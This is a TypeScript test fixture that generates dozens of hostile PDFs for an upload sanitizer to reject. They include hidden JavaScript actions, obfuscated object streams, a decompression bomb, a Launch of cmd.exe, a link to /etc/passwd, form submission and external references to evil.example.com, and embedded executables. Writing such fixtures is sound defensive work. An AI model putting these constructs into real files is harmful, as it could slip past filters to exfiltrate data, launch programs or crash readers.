import { deflateSync } from "node:zlib";
import { createPdf, createZip, objectStream, pdfStream } from "../upload-files.ts";

/** A marker of the harmful part, detectable wherever a reader would find it. */
export const canary = "app.alert(4711)";
const script = `<< /S /JavaScript /JS (${canary.replaceAll(/[()]/g, "\\$&")}) >>`;
const html = `<html><script>${canary}</script></html>`;
const bomb = deflateSync(Buffer.alloc(64 * 1024 * 1024));
const pageBox = { page: "/MediaBox [0 0 200 200]" };
const withAnnotation = (annotation: string, more: string[] = []) =>
  createPdf({
    page: `${pageBox.page} /Annots [4 0 R]`,
    more: [`4 0 obj\n<< /Type /Annot /Rect [0 0 50 50] ${annotation} >>\nendobj\n`, ...more],
  });
const link = (action: string) => withAnnotation(`/Subtype /Link /A ${action}`);
const javascriptLink = (address: string) => link(`<< /S /URI /URI ${address} >>`);

/** Returns an object stream with a script, with other bytes between its dictionary and its data. */
const streamAfter = (between: string) =>
  createPdf({ catalog: "/OpenAction 9 0 R", more: [objectStream(script).replace("stream\n", `stream${between}`)] });
const packedStream = (dictionary: string) =>
  createPdf({ catalog: "/OpenAction 9 0 R", more: [objectStream(script, `${dictionary} /N 1 /First 4`)] });

/** Appends an update that replaces an object, which readers follow. */
function appendUpdate(object: string, id: number): Buffer {
  const before = createPdf();
  const text = before.toString("latin1");
  const first = /startxref\n(\d+)/.exec(text)?.[1] ?? "0";
  const xref = before.length + object.length;
  const entry = `${String(before.length).padStart(10, "0")} 00000 n \n`;
  const trailer = `trailer\n<< /Size 20 /Root 1 0 R /Prev ${first} >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(`${text}${object}xref\n${id} 1\n${entry}${trailer}`, "latin1");
}

/** PDFs with actions, external references or embedded files; each must be rejected, or sanitized. */
export const hostilePdfs: Record<string, () => Buffer> = {
  "a script at opening": () => createPdf({ catalog: `/OpenAction ${script}` }),
  "a script at opening, in an object": () =>
    createPdf({ catalog: "/OpenAction 4 0 R", more: [`4 0 obj\n${script}\nendobj\n`] }),
  "a script with an escaped name": () =>
    createPdf({ catalog: `/OpenAction << /S /Java#53cript /#4A#53 (${canary}) >>` }),
  "a script in the tree of names": () =>
    createPdf({ catalog: "/Names << /JavaScript << /Names [(a) 4 0 R] >> >>", more: [`4 0 obj\n${script}\nendobj\n`] }),
  "a script at closing": () => createPdf({ catalog: `/AA << /WC ${script} /DS ${script} >>` }),
  "a script of a page": () => createPdf({ page: `${pageBox.page} /AA << /O ${script} >>` }),
  "a script behind another action": () =>
    createPdf({ catalog: `/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next ${script} >>` }),
  "a script in an outline": () =>
    createPdf({ catalog: "/Outlines << /First 4 0 R >>", more: [`4 0 obj\n<< /Title (x) /A ${script} >>\nendobj\n`] }),
  "a script of a form's field": () =>
    withAnnotation(`/Subtype /Widget /FT /Tx /T (a) /AA << /K ${script} /F ${script} >>`),
  "a script that calculates": () => createPdf({ catalog: `/AcroForm << /Fields [] /CO [4 0 R] /X ${script} >>` }),
  "a script in private data": () => createPdf({ page: `${pageBox.page} /PieceInfo << /X << /Private ${script} >> >>` }),
  "a script in a font": () =>
    createPdf({
      page: `${pageBox.page} /Resources << /Font << /F << /Type /Font /Subtype /Type1 /A ${script} >> >> >>`,
    }),
  "a script in a layer": () => createPdf({ catalog: `/OCProperties << /OCGs [] /D << /A ${script} >> >>` }),
  "a script in an object stream": () => packedStream("/Type /ObjStm /Filter /FlateDecode"),
  "an object stream after a space": () => streamAfter(" \n"),
  "an object stream after a tab": () => streamAfter("\t\n"),
  "an object stream after a form feed": () => streamAfter("\f\n"),
  "an object stream after a comment": () => streamAfter("% x\n"),
  "an object stream after a carriage return": () => streamAfter("\r"),
  "an object stream of no type": () => packedStream("/Filter /FlateDecode"),
  "an object stream of an escaped type": () => packedStream("/Type /Obj#53tm /Filter [/FlateDecode]"),
  "an object stream packed twice": () => packedStream("/Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode]"),
  "an object stream packed by another way": () => packedStream("/Type /ObjStm /Filter /LZWDecode"),
  "an object stream whose packing stands elsewhere": () => packedStream("/Type /ObjStm /Filter 8 0 R"),
  "an object stream with a misleading dictionary": () =>
    packedStream("/X (1 0 obj endobj) /Type /ObjStm /Filter /FlateDecode"),
  "an object stream behind a false comment": () => packedStream("/X (% (x) ) /Type /ObjStm /Filter /FlateDecode"),
  "an object stream that is a bomb": () =>
    createPdf({ more: [pdfStream(4, "/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", bomb)] }),
  "a false stream": () =>
    createPdf({ catalog: "/OpenAction 4 0 R", more: [`% >> stream\n4 0 obj\n${script}\nendobj\n% endstream\n`] }),
  "a script added by a later save": () =>
    appendUpdate(`1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction ${script} >>\nendobj\n`, 1),
  "a link to a script": () => javascriptLink(`(javascript:${canary.replaceAll(/[()]/g, "\\$&")})`),
  "a link to a script in capitals": () => javascriptLink(`( JaVaScRiPt:${canary.replaceAll(/[()]/g, "\\$&")})`),
  "a link to a script in hex": () => javascriptLink(`<${Buffer.from(`javascript:${canary}`).toString("hex")}>`),
  "a link to data": () => javascriptLink(`(data:text/html,${canary.replaceAll(/[()]/g, "\\$&")})`),
  "a link to a file": () => javascriptLink("(file:///etc/passwd)"),
  "a link that starts a program": () => link("<< /S /Launch /F (cmd.exe) >>"),
  "a link into another file": () => link("<< /S /GoToR /F (//evil.example.com/x) /D [0 /Fit] >>"),
  "a link into a carried file": () => link("<< /S /GoToE /T << /R /C /N (x) >> >>"),
  "a link that shows and hides": () => link("<< /S /Hide /T (a) /H false >>"),
  "a page opened on the web": () => createPdf({ catalog: "/OpenAction << /S /URI /URI (https://evil.example.com) >>" }),
  "a form that sends itself": () =>
    withAnnotation("/Subtype /Widget /FT /Btn /A << /S /SubmitForm /F (https://evil.example.com) >>"),
  "data brought into a form": () => link("<< /S /ImportData /F (x.fdf) >>"),
  "an XFA form": () =>
    createPdf({ catalog: "/AcroForm << /XFA 4 0 R >>", more: [pdfStream(4, "", Buffer.from(html))] }),
  "a carried file": () =>
    createPdf({
      catalog: "/Names << /EmbeddedFiles << /Names [(x) 4 0 R] >> >>",
      more: [
        "4 0 obj\n<< /Type /Filespec /F (x.exe) /EF << /F 5 0 R >> >>\nendobj\n",
        pdfStream(5, "/Type /EmbeddedFile", Buffer.from("MZ evil")),
      ],
    }),
  "a file on a page": () =>
    withAnnotation("/Subtype /FileAttachment /FS << /F (x.exe) /EF << /F 5 0 R >> >>", [
      pdfStream(5, "/Type /EmbeddedFile", Buffer.from("MZ evil")),
    ]),
  "a collection of files": () =>
    createPdf({
      catalog: "/Collection << /View /D >> /AF [4 0 R]",
      more: [pdfStream(4, "/Type /EmbeddedFile", Buffer.from("MZ evil"))],
    }),
  "moving pictures": () => withAnnotation("/Subtype /RichMedia /RichMediaContent << /Assets 5 0 R >>"),
  "a film": () => withAnnotation("/Subtype /Screen /A << /S /Rendition /OP 0 /R << /C << /D (x.avi) >> >> >>"),
  "a sound": () => link("<< /S /Sound /Sound 5 0 R >>"),
  "a body in space with a script": () =>
    withAnnotation("/Subtype /3D /3DD << /OnInstantiate 5 0 R >>", [pdfStream(5, "", Buffer.from(canary))]),
  "a program for printers": () =>
    createPdf({
      page: `${pageBox.page} /Resources << /XObject << /P 4 0 R >> >>`,
      more: [pdfStream(4, "/Type /XObject /Subtype /PS", Buffer.from("(evil) run"))],
    }),
  "a picture that stands elsewhere": () =>
    createPdf({
      page: `${pageBox.page} /Resources << /XObject << /P 4 0 R >> >>`,
      more: [pdfStream(4, "/Subtype /Image /Width 1 /Height 1 /F (//evil.example.com/x)", Buffer.from("x"))],
    }),
  "a form that points to another file": () =>
    createPdf({
      page: `${pageBox.page} /Resources << /XObject << /P 4 0 R >> >>`,
      more: [
        pdfStream(4, "/Subtype /Form /BBox [0 0 1 1] /Ref << /F (//evil.example.com/x) /Page 0 >>", Buffer.from("q")),
      ],
    }),
  "facts that hold a page": () =>
    createPdf({ catalog: "/Metadata 4 0 R", more: [pdfStream(4, "/Type /Metadata /Subtype /XML", Buffer.from(html))] }),
  "a comment that is a page": () => createPdf({ more: [`% ${html}\n`] }),
  "an archive within": () => createPdf({ more: [`% ${createZip().toString("latin1")}\n`] }),
  "no end to its nesting": () => createPdf({ catalog: `/X ${"[".repeat(100_000)}` }),
  "pages that lead in circles": () =>
    createPdf({ pages: "2 0 obj\n<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>\nendobj\n" }),
  "a table that leads in circles": () => createPdf({ trailer: "/Prev 15" }),
  "a lock": () => createPdf({ trailer: "/Encrypt 9 0 R" }),
  "a lock of its own": () =>
    createPdf({ trailer: "/Encrypt << /Filter /Standard /V 1 /R 2 /O (x) /U (x) /P -1 >> /ID [(a) (a)]" }),
};
